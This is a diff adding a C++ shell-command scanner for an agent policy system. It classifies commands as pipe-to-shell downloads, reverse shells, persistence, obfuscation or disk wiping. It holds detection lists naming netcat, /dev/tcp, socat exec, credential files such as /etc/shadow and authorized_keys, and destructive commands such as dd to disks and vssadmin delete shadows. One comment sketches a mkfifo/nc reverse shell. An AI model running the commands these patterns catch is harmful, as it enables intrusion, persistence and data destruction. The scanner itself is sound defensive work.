@@ -1,0 +1,601 @@
+#include "policy/scan/shell.h"
+
+#include <algorithm>
+#include <array>
+#include <span>
+
+#include "policy/scan/decode.h"
+#include "policy/scan/paths.h"
+#include "policy/scan/shell_words.h"
+
+namespace agentmesh::policy::scan {
+namespace {
+
+constexpr size_t kMaxText = 65536;
+
+template <size_t N>
+bool contains(const std::array<std::string_view, N>& words, std::string_view word) {
+  return std::find(words.begin(), words.end(), word) != words.end();
+}
+bool has(std::string_view text, std::string_view part) {
+  return text.find(part) != std::string_view::npos;
+}
+
+bool is_shell(std::string_view name) {
+  constexpr std::array<std::string_view, 11> kShells = {
+      "sh", "bash", "zsh", "dash", "ksh", "ash", "csh", "tcsh", "fish", "rbash", "busybox"};
+  return contains(kShells, name);
+}
+bool is_interpreter(std::string_view name) {
+  constexpr std::array<std::string_view, 12> kInterpreters = {
+      "perl", "ruby",  "node",      "php", "pwsh", "powershell",
+      "lua",  "tclsh", "osascript", "iex", "cmd",  "deno"};
+  return contains(kInterpreters, name) || name.substr(0, 6) == "python";
+}
+bool is_download(std::string_view name) {
+  constexpr std::array<std::string_view, 13> kDownloads = {"curl",
+                                                           "wget",
+                                                           "fetch",
+                                                           "aria2c",
+                                                           "lynx",
+                                                           "lwp-download",
+                                                           "axel",
+                                                           "http",
+                                                           "https",
+                                                           "iwr",
+                                                           "invoke-webrequest",
+                                                           "ftp",
+                                                           "tftp"};
+  return contains(kDownloads, name);
+}
+
+// Where the real command begins in the words of one that runs another: sudo -u x env A=1 nice -n 5 cmd.
+size_t skip_prefix(std::span<const std::string> words, size_t i) {
+  struct Prefix {
+    std::string_view name;
+    std::string_view with_value;  // options that take a value of their own
+    size_t operands = 0;          // words before the command
+  };
+  constexpr std::array<Prefix, 28> kPrefixes = {{{"sudo", "-u -g -h -p -C -r -t -U -D -T"},
+                                                 {"doas", "-u -C"},
+                                                 {"env", "-u -C -S"},
+                                                 {"nohup", ""},
+                                                 {"time", "-f -o"},
+                                                 {"nice", "-n"},
+                                                 {"ionice", "-c -n"},
+                                                 {"stdbuf", "-i -o -e"},
+                                                 {"setsid", ""},
+                                                 {"timeout", "-k -s", 1},
+                                                 {"command", ""},
+                                                 {"builtin", ""},
+                                                 {"exec", "-a"},
+                                                 {"busybox", ""},
+                                                 {"watch", "-n"},
+                                                 {"strace", "-e -o -p -s"},
+                                                 {"chroot", "", 1},
+                                                 {"xargs", "-I -n -P -L -d -a -E -s"},
+                                                 {"parallel", "-j"},
+                                                 {"unbuffer", ""},
+                                                 {"proxychains", ""},
+                                                 {"caffeinate", ""},
+                                                 {"flock", "-w", 1},
+                                                 {"taskset", "", 1},
+                                                 {"unshare", ""},
+                                                 {"nsenter", "-t"},
+                                                 {"start", ""},
+                                                 {"winpty", ""}}};
+  constexpr std::array<std::string_view, 12> kKeywords = {
+      "then", "do", "else", "elif", "if", "while", "until", "!", "{", "not", "coproc", "in"};
+  for (int guard = 0; guard < 16 && i < words.size(); ++guard) {
+    if (contains(kKeywords, words[i])) {
+      ++i;
+      continue;
+    }
+    const std::string name = command_name(words[i]);
+    const auto prefix = std::find_if(kPrefixes.begin(), kPrefixes.end(),
+                                     [&](const Prefix& known) { return known.name == name; });
+    if (prefix == kPrefixes.end()) return i;
+    size_t next = i + 1;
+    while (next < words.size()) {
+      const std::string& word = words[next];
+      if (word.size() > 1 && word[0] == '-') {
+        const bool takes = word.size() == 2 && has(prefix->with_value, word);
+        next += takes ? 2U : 1U;
+      } else if (name == "env" && word.find('=') != std::string::npos) {
+        ++next;
+      } else {
+        break;
+      }
+    }
+    next += prefix->operands;
+    if (next >= words.size()) return i;  // `time` or `env` by itself
+    i = next;
+  }
+  return i;
+}
+
+// One command, its name found.
+struct Run {
+  const SimpleCommand* command = nullptr;
+  std::string name;
+  std::span<const std::string> arguments;
+
+  bool has_argument(std::string_view word) const {
+    return std::find(arguments.begin(), arguments.end(), word) != arguments.end();
+  }
+  // True if a bundle of short options ("-rf") holds `letter`, or `name` is among the long ones.
+  bool option(char letter, std::string_view long_name) const {
+    return std::any_of(arguments.begin(), arguments.end(), [&](const std::string& word) {
+      if (word.size() > 2 && word[0] == '-' && word[1] == '-')
+        return word.substr(0, long_name.size()) == long_name;
+      return word.size() > 1 && word[0] == '-' && word[1] != '-' &&
+             word.find(letter) != std::string::npos;
+    });
+  }
+};
+
+bool is_system_place(std::string_view target) {
+  std::string path = ascii_lower(target);
+  while (path.size() > 1 && (path.back() == '/' || path.back() == '*')) path.pop_back();
+  if (path.empty() || path == "/" || path == "~" || path == "$home" || path == "/." || path == "*"
+          ? path != "*" && target != "*"
+          : false)
+    return true;
+  constexpr std::array<std::string_view, 24> kPlaces = {
+      "/etc",     "/usr",     "/bin",  "/sbin",    "/lib",     "/lib64",
+      "/boot",    "/dev",     "/proc", "/sys",     "/var",     "/home",
+      "/root",    "/opt",     "/srv",  "/usr/bin", "/usr/lib", "/usr/local",
+      "/var/lib", "/var/log", "/mnt",  "/media",   "/users",   "/applications"};
+  return contains(kPlaces, path) || path == "/*" ||
+         (path.size() <= 4 && path.size() >= 2 && path[1] == ':' &&
+          (path.size() == 2 || path[2] == '\\' || path[2] == '/'));
+}
+
+bool is_disk(std::string_view target) {
+  for (const std::string_view disk :
+       {"/dev/sd", "/dev/hd", "/dev/nvme", "/dev/vd", "/dev/xvd", "/dev/mmcblk", "/dev/disk",
+        "/dev/mapper/", "/dev/md", "\\\\.\\physicaldrive", "/dev/rdisk"})
+    if (ascii_lower(target).substr(0, disk.size()) == disk) return true;
+  return false;
+}
+
+bool is_startup_place(std::string_view target) {
+  const std::string path = ascii_lower(target);
+  for (const std::string_view part : {"/.bashrc",
+                                      "/.bash_profile",
+                                      "/.bash_login",
+                                      "/.profile",
+                                      "/.zshrc",
+                                      "/.zprofile",
+                                      "/.zshenv",
+                                      "/.config/fish/config.fish",
+                                      "/.config/autostart",
+                                      "authorized_keys",
+                                      "/etc/cron",
+                                      "/var/spool/cron",
+                                      "/etc/rc.local",
+                                      "/etc/init.d/",
+                                      "/etc/profile",
+                                      "/etc/bash.bashrc",
+                                      "/etc/systemd/system",
+                                      "/lib/systemd/system",
+                                      "/.config/systemd/user",
+                                      "/etc/sudoers",
+                                      "/etc/passwd",
+                                      "/etc/shadow",
+                                      "/etc/ld.so.preload",
+                                      "/launchagents/",
+                                      "/launchdaemons/",
+                                      "/.ssh/config",
+                                      "\\start menu\\programs\\startup",
+                                      "/.git/hooks/",
+                                      "/etc/xdg/autostart",
+                                      "/etc/hosts"})
+    if (has(path, part)) return true;
+  return path == ".bashrc" || path == ".profile" || path == ".zshrc";
+}
+
+class Reader {
+ public:
+  Reader(Shell& shell, std::vector<Hit>& hits) : shell_(shell), hits_(hits) {}
+
+  void read(std::string_view text, int level) {
+    if (text.size() > kMaxText) {
+      hit("shell.obfuscated", Severity::kMedium);
+      text = text.substr(0, kMaxText);
+    }
+    const ShellText parsed = read_commands(text);
+    if (parsed.truncated) hit("shell.obfuscated", Severity::kMedium);
+    shell_.substitutes = shell_.substitutes || parsed.substitutes;
+    std::vector<Run> runs;
+    runs.reserve(parsed.commands.size());
+    for (const SimpleCommand& command : parsed.commands) {
+      for (const std::string& word : command.words)
+        if (shell_.words.size() < 4 * kMaxCommands) shell_.words.push_back(word);
+      for (const Redirect& redirect : command.redirects)
+        if (shell_.words.size() < 4 * kMaxCommands) shell_.words.push_back(redirect.target);
+      Run run;
+      run.command = &command;
+      const size_t first = skip_prefix(command.words, 0);
+      for (size_t i = 0; i < std::min(first + 1, command.words.size()); ++i)
+        name(command_name(command.words[i]), i == first);
+      if (first < command.words.size()) {
+        run.name = command_name(command.words[first]);
+        run.arguments = std::span(command.words).subspan(first + 1);
+      }
+      if (command.obfuscated && !run.name.empty()) hit("shell.obfuscated", Severity::kMedium);
+      runs.push_back(run);
+    }
+    for (size_t i = 0; i < runs.size(); ++i) judge(runs, i, level);
+    whole_text(text, runs);
+  }
+
+ private:
+  void hit(std::string_view id, Severity severity) { add_hit(hits_, {id, severity}); }
+
+  void name(std::string word, bool main) {
+    if (word.empty() || shell_.commands.size() >= kMaxCommands) return;
+    if (!main && (word[0] == '-' || word.find('=') != std::string::npos)) return;
+    if (std::find(shell_.commands.begin(), shell_.commands.end(), word) == shell_.commands.end())
+      shell_.commands.push_back(std::move(word));
+  }
+
+  // True if what flows into `runs[i]` by a pipe comes from the network or a decoder.
+  static bool fed_by(const std::vector<Run>& runs, size_t i, bool& literal, std::string& text) {
+    for (size_t k = i; k-- > 0;) {
+      const Run& run = runs[k];
+      if (run.command->pipeline != runs[i].command->pipeline ||
+          run.command->depth != runs[i].command->depth) {
+        if (run.command->depth > runs[i].command->depth) continue;
+        break;
+      }
+      if (is_download(run.name) || decodes(run)) return true;
+      if (run.name == "echo" || run.name == "printf") {
+        literal = true;
+        for (const std::string& word : run.arguments) text += word + " ";
+      }
+    }
+    return false;
+  }
+
+  static bool decodes(const Run& run) {
+    return ((run.name == "base64" || run.name == "base32" || run.name == "openssl") &&
+            run.option('d', "--decode")) ||
+           (run.name == "base64" && run.option('D', "--decode")) ||
+           (run.name == "xxd" && run.option('r', "--revert")) || run.name == "rev" ||
+           (run.name == "gzip" && run.option('d', "--decompress")) || run.name == "uudecode";
+  }
+
+  bool inner_feeds(const std::vector<Run>& runs, const Run& run) const {
+    for (size_t k = run.command->inner_begin; k < run.command->inner_end && k < runs.size(); ++k)
+      if (is_download(runs[k].name) || decodes(runs[k])) return true;
+    return false;
+  }
+
+  void judge(const std::vector<Run>& runs, size_t i, int level) {
+    const Run& run = runs[i];
+    const SimpleCommand& command = *run.command;
+    for (const Redirect& redirect : command.redirects) judge_redirect(redirect, run);
+    if (run.name.empty()) return;
+
+    const bool shell = is_shell(run.name);
+    const bool interpreter = shell || is_interpreter(run.name);
+    const bool reads_stdin =
+        std::all_of(run.arguments.begin(), run.arguments.end(),
+                    [](const std::string& word) {
+                      return !word.empty() && word[0] == '-' && word != "-c" && word != "-e";
+                    }) ||
+        run.has_argument("-s") || run.has_argument("/dev/stdin");
+    if (interpreter && command.reads_pipe && reads_stdin) {
+      shell_.pipes_to_shell = true;
+      bool literal = false;
+      std::string text;
+      if (fed_by(runs, i, literal, text)) {
+        hit("shell.pipe-to-shell", Severity::kHigh);
+      } else if (literal && shell && level < 2) {
+        read(text, level + 1);
+      }
+    }
+    if (interpreter || run.name == "eval" || run.name == "source" || run.name == ".") {
+      if (inner_feeds(runs, run)) {
+        shell_.pipes_to_shell = true;
+        hit("shell.pipe-to-shell", Severity::kHigh);
+      }
+      if (!command.here.empty() && shell && level < 2) read(command.here, level + 1);
+    }
+    if ((shell || run.name == "su" || run.name == "script" || run.name == "cmd" ||
+         run.name == "ssh") &&
+        level < 2) {
+      for (size_t k = 0; k + 1 < run.arguments.size(); ++k) {
+        const std::string& flag = run.arguments[k];
+        const bool runs_text = (flag.size() > 1 && flag[0] == '-' && flag[1] != '-' &&
+                                flag.find('c') != std::string::npos && shell) ||
+                               flag == "-c" || ascii_lower(flag) == "/c";
+        if (!runs_text) continue;
+        std::string text = run.arguments[k + 1];
+        if (run.name == "cmd")
+          for (size_t m = k + 2; m < run.arguments.size(); ++m) text += " " + run.arguments[m];
+        read(text, level + 1);
+        break;
+      }
+    }
+    if (run.name == "eval" && level < 2) {
+      std::string text;
+      for (const std::string& word : run.arguments) text += word + " ";
+      read(text, level + 1);
+    }
+    if (run.name == "find") judge_find(run);
+    if (run.name == "rm" || run.name == "remove-item" || run.name == "rmdir" || run.name == "rd" ||
+        run.name == "del" || run.name == "erase" || run.name == "ri")
+      judge_remove(run);
+    judge_wipe(run);
+    judge_sockets(runs, i);
+    judge_persistence(run);
+    judge_windows(run);
+  }
+
+  void judge_find(const Run& run) {
+    bool system =
+        !run.arguments.empty() && is_system_place(run.arguments[0]) && run.arguments[0] != ".";
+    bool narrowed = false;
+    for (size_t k = 0; k < run.arguments.size(); ++k) {
+      const std::string& word = run.arguments[k];
+      if (word == "-name" || word == "-iname" || word == "-path" || word == "-mtime" ||
+          word == "-size" || word == "-empty" || word == "-regex" || word == "-mmin" ||
+          word == "-newer" || word == "-user" || word == "-inum" || word == "-perm" ||
+          word == "-atime" || word == "-ctime" || word == "-iregex" || word == "-ipath" ||
+          word == "-wholename")
+        narrowed = true;
+      if (word == "-delete")
+        hit(system && !narrowed ? "shell.wipe" : "shell.recursive-delete",
+            system && !narrowed ? Severity::kCritical : Severity::kMedium);
+      if ((word == "-exec" || word == "-execdir" || word == "-ok" || word == "-okdir") &&
+          k + 1 < run.arguments.size()) {
+        const size_t first = skip_prefix(run.arguments, k + 1);
+        const std::string inner =
+            command_name(run.arguments[std::min(first, run.arguments.size() - 1)]);
+        name(inner, true);
+        if (inner == "rm" || inner == "unlink" || inner == "shred")
+          hit(system && !narrowed ? "shell.wipe" : "shell.recursive-delete",
+              system && !narrowed ? Severity::kCritical : Severity::kMedium);
+        if (is_shell(inner)) {
+          for (size_t m = first + 1; m + 1 < run.arguments.size(); ++m)
+            if (run.arguments[m] == "-c") read(run.arguments[m + 1], 2);
+        }
+      }
+    }
+  }
+
+  void judge_remove(const Run& run) {
+    const bool recursive =
+        run.option('r', "--recursive") || run.option('R', "--recursive") ||
+        run.has_argument("/s") || run.has_argument("/S") ||
+        std::any_of(run.arguments.begin(), run.arguments.end(), [](const std::string& word) {
+          const std::string lower = ascii_lower(word);
+          return lower == "-recurse" || lower == "-r";
+        });
+    const bool no_preserve = run.option('\0', "--no-preserve-root");
+    bool wipes = no_preserve;
+    bool any = false;
+    for (const std::string& word : run.arguments) {
+      if (word.empty() || word[0] == '-' ||
+          (word.size() == 2 && word[0] == '/' && run.name != "rm"))
+        continue;
+      any = true;
+      if (is_system_place(word)) wipes = true;
+    }
+    if (run.name == "rmdir" && !recursive) return;
+    if (wipes && (recursive || no_preserve)) return hit("shell.wipe", Severity::kCritical);
+    if (recursive && (any || run.command->reads_pipe || run.name == "rm"))
+      hit("shell.recursive-delete", Severity::kMedium);
+  }
+
+  void judge_wipe(const Run& run) {
+    const auto any = [&](auto test) {
+      return std::any_of(run.arguments.begin(), run.arguments.end(), test);
+    };
+    if (run.name == "dd" && any([](const std::string& word) {
+          return word.substr(0, 3) == "of=" && is_disk(std::string_view(word).substr(3));
+        }))
+      hit("shell.wipe", Severity::kCritical);
+    if ((run.name.substr(0, 4) == "mkfs" || run.name == "wipefs" || run.name == "shred" ||
+         run.name == "blkdiscard" || run.name == "sgdisk" || run.name == "hdparm") &&
+        any([](const std::string& word) { return is_disk(word); }))
+      hit("shell.wipe", Severity::kCritical);
+    if ((run.name == "chmod" || run.name == "chown" || run.name == "chgrp" || run.name == "shred" ||
+         run.name == "mv") &&
+        any([](const std::string& word) {
+          return is_system_place(word) &&
+                 (word == "/" || word == "/*" || word == "~" || word[0] == '/');
+        })) {
+      if (run.name == "mv" ? (!run.arguments.empty() && is_system_place(run.arguments[0]))
+                           : run.option('R', "--recursive"))
+        hit("shell.wipe", Severity::kHigh);
+    }
+    if (run.name == "kill" && run.has_argument("-9") && run.has_argument("-1"))
+      hit("shell.wipe", Severity::kHigh);
+  }
+
+  void judge_redirect(const Redirect& redirect, const Run& run) {
+    if (has(redirect.target, "/dev/tcp/") || has(redirect.target, "/dev/udp/"))
+      hit("shell.reverse-shell", Severity::kCritical);
+    if (redirect.op.empty() || redirect.op[0] == '<') return;
+    if (is_disk(redirect.target)) hit("shell.wipe", Severity::kCritical);
+    if (is_startup_place(redirect.target)) hit("shell.persistence", Severity::kHigh);
+    (void)run;
+  }
+
+  void judge_sockets(const std::vector<Run>& runs, size_t i) {
+    const Run& run = runs[i];
+    std::string all;
+    for (const std::string& word : run.arguments) {
+      all += word;
+      all += ' ';
+      if (all.size() > 8192) break;
+    }
+    const bool netcat = run.name == "nc" || run.name == "ncat" || run.name == "netcat" ||
+                        run.name == "nc.traditional" || run.name == "nc.openbsd";
+    const bool names_shell = has(all, "/bin/sh") || has(all, "/bin/bash") || has(all, "bash") ||
+                             has(all, "cmd.exe") || has(all, "powershell") || has(all, "/bin/zsh");
+    if (netcat && ((run.option('e', "--exec") || run.option('c', "--sh-exec")) &&
+                   (names_shell || has(all, "sh"))))
+      hit("shell.reverse-shell", Severity::kCritical);
+    if (has(all, "/dev/tcp/") || has(all, "/dev/udp/"))
+      hit("shell.reverse-shell", Severity::kCritical);
+    if (run.name == "socat" && (has(ascii_lower(all), "exec:") || has(ascii_lower(all), "system:")))
+      hit("shell.reverse-shell", Severity::kCritical);
+    if (has(all, "/inet/tcp/") && (has(run.name, "awk")))
+      hit("shell.reverse-shell", Severity::kCritical);
+    if (is_interpreter(run.name) || is_shell(run.name)) {
+      const bool socket = has(all, "socket") || has(all, "Socket") || has(all, "fsockopen") ||
+                          has(all, "net.connect") || has(all, "TCPClient") ||
+                          has(all, "TcpClient") || has(all, "require('net')") ||
+                          has(all, "require(\"net\")");
+      const bool executes = has(all, "exec") || has(all, "subprocess") || has(all, "dup2") ||
+                            has(all, "pty") || has(all, "spawn") || has(all, "system") ||
+                            has(all, "popen") || has(all, "iex") || has(all, "/bin/sh") ||
+                            has(all, "Process");
+      if (socket && executes) hit("shell.reverse-shell", Severity::kCritical);
+      const bool fetches = has(all, "urlopen") || has(all, "urllib") || has(all, "requests.get") ||
+                           has(all, "http.get") || has(all, "file_get_contents('http") ||
+                           has(all, "open-uri") || has(all, "LWP::");
+      if (fetches && (has(all, "exec(") || has(all, "eval") || has(all, "system(")))
+        hit("shell.pipe-to-shell", Severity::kHigh);
+    }
+    // mkfifo f; cat f | sh -i 2>&1 | nc host port > f, and telnet host 1 | sh | telnet host 2
+    if (netcat || run.name == "telnet" || (run.name == "openssl" && run.has_argument("s_client"))) {
+      for (const Run& other : runs)
+        if (other.command->pipeline == run.command->pipeline &&
+            (is_shell(other.name) || other.name == "cmd"))
+          hit("shell.reverse-shell", Severity::kCritical);
+    }
+  }
+
+  void judge_persistence(const Run& run) {
+    const auto last = run.arguments.empty() ? std::string() : run.arguments.back();
+    if ((run.name == "tee" || run.name == "cp" || run.name == "mv" || run.name == "install" ||
+         run.name == "ln") &&
+        is_startup_place(last))
+      hit("shell.persistence", Severity::kHigh);
+    if (run.name == "sed" && run.option('i', "--in-place") && is_startup_place(last))
+      hit("shell.persistence", Severity::kHigh);
+    if (run.name == "crontab" && !run.option('l', "--list") && !run.option('e', "--edit") &&
+        (run.has_argument("-") || run.command->reads_pipe || !run.arguments.empty()))
+      hit("shell.persistence", Severity::kMedium);
+    if (run.name == "systemctl" && run.has_argument("enable"))
+      hit("shell.persistence", Severity::kMedium);
+    if (run.name == "useradd" || run.name == "adduser" ||
+        (run.name == "usermod" && (run.option('G', "--groups"))))
+      hit("shell.persistence", Severity::kMedium);
+    if (run.name == "chmod" && !run.arguments.empty()) {
+      const std::string& mode = run.arguments[0];
+      if (has(mode, "+s") || (mode.size() == 4 && (mode[0] == '4' || mode[0] == '6') &&
+                              mode.find_first_not_of("01234567") == std::string::npos))
+        hit("shell.persistence", Severity::kMedium);
+    }
+    if (run.name == "schtasks" &&
+        std::any_of(run.arguments.begin(), run.arguments.end(),
+                    [](const std::string& word) { return ascii_lower(word) == "/create"; }))
+      hit("shell.persistence", Severity::kHigh);
+    if (run.name == "reg" &&
+        std::any_of(run.arguments.begin(), run.arguments.end(), [](const std::string& word) {
+          return has(ascii_lower(word), "currentversionrun") ||
+                 has(ascii_lower(word), "currentversion\\run");
+        }))
+      hit("shell.persistence", Severity::kHigh);
+  }
+
+  void judge_windows(const Run& run) {
+    std::string all = run.name;
+    for (const std::string& word : run.arguments) {
+      all += ' ';
+      all += ascii_lower(word);
+      if (all.size() > 8192) break;
+    }
+    const bool powershell = run.name == "powershell" || run.name == "pwsh" || run.name == "iex" ||
+                            run.name == "invoke-expression";
+    if (powershell && (has(all, "downloadstring") || has(all, "downloadfile") ||
+                       ((has(all, "iex") || has(all, "invoke-expression")) &&
+                        (has(all, "iwr") || has(all, "invoke-webrequest") || has(all, "http")))))
+      hit("shell.pipe-to-shell", Severity::kHigh);
+    if (powershell)
+      for (const std::string& word : run.arguments) {
+        const std::string lower = ascii_lower(word);
+        if (lower.size() >= 2 && lower[0] == '-' &&
+            std::string_view("-encodedcommand").substr(0, lower.size()) == lower &&
+            lower[1] == 'e' && lower != "-ex" && lower.substr(0, 3) != "-ex")
+          hit("shell.obfuscated", Severity::kHigh);
+      }
+    if ((run.name == "certutil" && has(all, "urlcache")) ||
+        (run.name == "bitsadmin" && has(all, "/transfer")) ||
+        (run.name == "mshta" && has(all, "http")) || (run.name == "regsvr32" && has(all, "/i:")) ||
+        (run.name == "rundll32" && has(all, "javascript:")) ||
+        (run.name == "msiexec" && has(all, "http")))
+      hit("shell.pipe-to-shell", Severity::kHigh);
+    if (run.name == "format" && !run.arguments.empty() && run.arguments[0].size() == 2 &&
+        run.arguments[0][1] == ':')
+      hit("shell.wipe", Severity::kCritical);
+    if ((run.name == "vssadmin" && has(all, "delete shadows")) ||
+        (run.name == "cipher" && has(all, "/w")) ||
+        (run.name == "bcdedit" && has(all, "recoveryenabled no")))
+      hit("shell.wipe", Severity::kCritical);
+  }
+
+  // What is seen across commands: a fork bomb, a download that is run afterwards.
+  void whole_text(std::string_view text, const std::vector<Run>& runs) {
+    std::string bare;
+    for (const char c : text.substr(0, 4096))
+      if (c != ' ' && c != '\t' && c != '\n') bare.push_back(c);
+    const size_t body = bare.find("(){");
+    if (body != std::string::npos && body > 0) {
+      size_t begin = body;
+      while (begin > 0 && bare[begin - 1] != ';' && bare[begin - 1] != '&' && body - begin < 32)
+        --begin;
+      const std::string function = bare.substr(begin, body - begin);
+      if (has(std::string_view(bare).substr(body), function + "|" + function + "&"))
+        hit("shell.wipe", Severity::kCritical);
+    }
+    std::vector<std::string> saved;
+    for (const Run& run : runs) {
+      if (is_download(run.name)) {
+        for (size_t k = 0; k < run.arguments.size(); ++k) {
+          const std::string& word = run.arguments[k];
+          if ((word == "-o" || word == "-O" || word == "--output" || word == "--output-document") &&
+              k + 1 < run.arguments.size() && run.arguments[k + 1].find("://") == std::string::npos)
+            saved.push_back(run.arguments[k + 1]);
+          if (word.find("://") != std::string::npos &&
+              (run.name == "wget" || run.option('O', "--remote-name"))) {
+            const size_t slash = word.find_last_of('/');
+            if (slash + 1 < word.size()) saved.push_back(word.substr(slash + 1));
+          }
+        }
+        if (saved.size() > 64) return;
+        continue;
+      }
+      for (const std::string& file : saved) {
+        const std::string base = file.substr(file.find_last_of('/') + 1);
+        const bool runs_it =
+            (run.name == ascii_lower(base) && !base.empty()) ||
+            ((is_shell(run.name) || is_interpreter(run.name) || run.name == "source" ||
+              run.name == ".") &&
+             std::any_of(run.arguments.begin(), run.arguments.end(), [&](const std::string& word) {
+               return word == file || word == base || word == "./" + base;
+             }));
+        if (runs_it) hit("shell.pipe-to-shell", Severity::kHigh);
+      }
+    }
+  }
+
+  Shell& shell_;
+  std::vector<Hit>& hits_;
+};
+
+}  // namespace
+
+Shell read_shell(std::string_view text, std::vector<Hit>& hits) {
+  Shell shell;
+  Reader(shell, hits).read(text, 0);
+  return shell;
+}
+
+}  // namespace agentmesh::policy::scan
